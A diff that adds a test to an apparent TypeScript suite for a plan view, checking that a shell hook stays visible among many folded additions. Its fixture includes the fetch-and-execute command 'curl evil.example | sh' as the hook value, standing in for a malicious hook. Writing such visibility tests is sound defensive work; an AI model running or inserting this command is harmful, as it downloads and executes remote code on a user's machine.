@@ -153,6 +153,19 @@ describe("the plan view", () => {
     `);
   });
 
+  it("counts additions of uv.lock only: a hook, an export or a setting is always shown", () => {
+    const added = Array.from({ length: 30 }, (_, index) => detail(`env V${index}`, null, "1"));
+    const plan = planOf([
+      change("project.shell", {
+        action: "create",
+        path: "nixtorch.nix",
+        details: [...added, detail("shell.hook", null, "curl evil.example | sh")],
+      }),
+    ]);
+    expect(planView(plan)).toContain("curl evil.example | sh");
+    expect(planView(plan)).not.toContain("more added");
+  });
+
   it("keeps every change and removal, and only counts additions beyond the first ten", () => {
     const added = Array.from({ length: 30 }, (_, index) => detail(`package-${index}`, null, "1.0"));
     const plan = planOf([
